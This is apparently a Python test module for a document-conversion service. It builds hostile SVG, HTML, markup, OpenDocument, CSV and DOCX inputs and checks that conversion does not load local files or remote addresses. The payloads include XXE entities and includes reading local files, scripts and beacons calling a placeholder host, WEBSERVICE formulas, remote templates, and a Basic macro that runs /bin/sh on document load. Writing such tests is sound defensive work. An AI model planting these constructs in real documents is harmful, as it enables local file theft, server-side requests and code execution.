"""Documents and drawings that load pictures, texts and addresses that are none of their business."""

from __future__ import annotations

import io
import zipfile

from tests.support.hostile.case import Bait, Case, convert, fill, filled
from tests.support.samples import sample

_ANY = ("OPEN_FAILED", "CONVERSION_FAILED", "LIMIT_EXCEEDED", "TIMEOUT", "INVALID_CONVERSION_TYPE", "INVALID_OPTION")

_SVG = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY text SYSTEM "file://BAIT_TEXT"><!ENTITY far SYSTEM "BAIT_URL/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude"
 width="200" height="200"><style>@import url(BAIT_URL/style.css); rect {fill: url(BAIT_URL/fill.svg#a)}</style>
<image width="100" height="100" xlink:href="file://BAIT_PICTURE"/><image width="50" height="50" href="BAIT_PICTURE"/>
<image y="100" width="100" height="100" xlink:href="BAIT_URL/picture.png"/><use xlink:href="BAIT_URL/use.svg#a"/>
<xi:include href="file://BAIT_TEXT" parse="text"/><text x="5" y="150">ENTITY</text>
<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://BAIT_TEXT"/></foreignObject>
<script>fetch("BAIT_URL/script")</script></svg>"""

_HTML = """<!doctype html><link rel="stylesheet" href="BAIT_URL/style.css"><base href="file:///">
<img src="file://BAIT_PICTURE" width="64"><img src="BAIT_URL/picture.png"><iframe src="file://BAIT_TEXT"></iframe>
<object data="file://BAIT_TEXT"></object><embed src="BAIT_URL/embed"><style>@import "BAIT_URL/import.css";</style>
<h1>Page</h1><script>
fetch("BAIT_URL/script").catch(() => 0);
fetch("file://BAIT_TEXT").then(a => a.text()).then(a => document.body.append(a)).catch(() => 0);
new WebSocket("BAIT_URL/socket".replace("http", "ws"));
navigator.sendBeacon("BAIT_URL/beacon");
window.open("BAIT_URL/window");
</script>"""

_AWAY = '<!doctype html><meta http-equiv="refresh" content="0;url=BAIT_PLACE"><h1>Page</h1>'

_TEXTS = {
    "md": "![p](BAIT_PICTURE) ![q](BAIT_URL/picture.png) ![r](file://BAIT_PICTURE)\n\n<img src='BAIT_URL/html.png'>\n",
    "rst": ".. include:: BAIT_TEXT\n\n.. csv-table::\n   :file: BAIT_TEXT\n\n.. raw:: html\n   :file: BAIT_TEXT\n\n"
    ".. image:: BAIT_URL/picture.png\n\n.. image:: BAIT_PICTURE\n",
    "org": '#+INCLUDE: "BAIT_TEXT" example\n\n[[file:BAIT_PICTURE]]\n[[BAIT_URL/picture.png]]\n',
    "tex": "\\input{BAIT_TEXT}\n\\include{BAIT_TEXT}\n\\includegraphics{BAIT_PICTURE}\nWords\n",
    "adoc": "include::BAIT_TEXT[]\n\nimage::BAIT_PICTURE[]\n\nimage::BAIT_URL/picture.png[]\n",
    "html": "<p>Words</p><img src='BAIT_URL/picture.png'><img src='BAIT_PICTURE'><iframe src='file://BAIT_TEXT'></iframe>",
}
_FODT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:ooo="http://openoffice.org/2004/office"
 xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">
<ooo:module ooo:name="M"><ooo:source-code>Sub Main
Open "BAIT_TARGET" For Output As #1
Print #1, "owned"
Shell("/bin/sh", 0, "-c 'touch BAIT_TARGET'")
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>
<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"
 xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>
<office:body><office:text><text:p>Words</text:p>
<text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:image xlink:href="file://BAIT_PICTURE"/></draw:frame></text:p>
<text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:image xlink:href="BAIT_URL/picture.png"/></draw:frame></text:p>
<text:section text:name="S"><text:section-source xlink:href="file://BAIT_TEXT"/><text:p>old</text:p></text:section>
</office:text></office:body></office:document>"""
_CALC = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"
 office:mimetype="application/vnd.oasis.opendocument.spreadsheet"><office:body><office:spreadsheet><table:table table:name="T"><table:table-row>
<table:table-cell table:formula="of:=WEBSERVICE(&quot;BAIT_URL/cell&quot;)" office:value-type="string"><text:p>a</text:p></table:table-cell>
<table:table-cell table:formula="of:='file://BAIT_TEXT'#$Sheet1.A1" office:value-type="string"><text:p>b</text:p></table:table-cell>
</table:table-row></table:table></office:spreadsheet></office:body></office:document>"""
_RELATIONSHIPS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="BAIT_URL/picture.png" TargetMode="External"/>
<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://BAIT_PICTURE" TargetMode="External"/>
<Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="BAIT_URL/template.dotm" TargetMode="External"/>
<Relationship Id="r4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/subDocument" Target="file://BAIT_TEXT" TargetMode="External"/>
</Relationships>"""
_PICTURE = """<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">
<wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">
<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">
<pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="NUMBER"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>
<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>
</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"""


def cases() -> list[Case]:
    """All of them. They may be converted, but without what they ask for."""
    return [*_drawings(), *_pages(), *_markup(), *_office()]


def _drawings() -> list[Case]:
    ways = [
        ("png", "rsvg"),
        ("pdf", "rsvg"),
        ("png", "inkscape"),
        ("pdf", "inkscape"),
        ("pdf", "libreoffice"),
        ("png", "libreoffice"),
    ]
    entity = _SVG.replace("ENTITY", "&text;")
    return [
        *(
            _either(f"svg-{engine}-{kind}", "a.svg", _SVG, kind, engine, slow=(kind == "png") != (engine == "rsvg"))
            for kind, engine in ways
        ),
        *(
            _either(f"svg-entity-{engine}-{kind}", "a.svg", entity, kind, engine, slow=kind == "png")
            for kind, engine in ways
        ),
    ]


def _pages() -> list[Case]:
    return [
        *(
            _either(f"html-chrome-{kind}", "a.html", _HTML, kind, "chrome", slow=kind == "png")
            for kind in ("pdf", "png")
        ),
        *(
            _either(f"html-leaves-for-{name}", "a.html", _AWAY.replace("BAIT_PLACE", place), "pdf", "chrome")
            for name, place in {"file": "file://BAIT_TEXT", "network": "BAIT_URL/away"}.items()
        ),
        _either("html-libreoffice", "a.html", _HTML, "odt", "libreoffice"),
    ]


def _markup() -> list[Case]:
    return [
        _either(f"{kind}-to-{target}", f"a.{kind}", text, target, slow=target not in ("docx", "md"))
        for kind, text in _TEXTS.items()
        for target in ("docx", "epub", "md" if kind == "html" else "html", "typ", "pdf")
        if (kind, target) != ("html", "pdf")
    ] + [_either("html-typst", "a.html", _TEXTS["html"], "pdf", "typst")]


def _office() -> list[Case]:
    return [
        *(
            _either(f"fodt-to-{target}", "a.fodt", _FODT, target, slow=target == "txt")
            for target in ("pdf", "docx", "txt")
        ),
        *(
            _either(f"fods-to-{target}", "a.fods", _CALC, target, slow=target == "xlsx")
            for target in ("pdf", "csv", "xlsx")
        ),
        _either("csv-with-formula", "a.csv", '"=WEBSERVICE(""BAIT_URL/csv"")",2\n', "pdf"),
        *(
            Case(f"docx-{engine}-{target}", "a.docx", _external_docx, convert(target, engine), "either", _ANY)
            for target, engine in (("pdf", "libreoffice"), ("html", "pandoc"), ("epub", "pandoc"), ("pdf", "typst"))
        ),
    ]


def _either(name: str, file: str, template: str, target: str, engine: str | None = None, *, slow: bool = False) -> Case:
    return Case(name, file, filled(template), convert(target, engine), "either", _ANY, slow)


def _external_docx(bait: Bait) -> bytes:
    """The sample with linked pictures, a template and a part that lie elsewhere."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sample("docx"))) as whole, zipfile.ZipFile(buffer, "w") as changed:
        for name in whole.namelist():
            text = whole.read(name).decode()
            linked = "".join(_PICTURE.replace("NUMBER", number) for number in ("r1", "r2"))
            changed.writestr(name, text.replace("</w:body>", f"{linked}</w:body>"))
        changed.writestr("word/_rels/document.xml.rels", fill(_RELATIONSHIPS, bait))
    return buffer.getvalue()
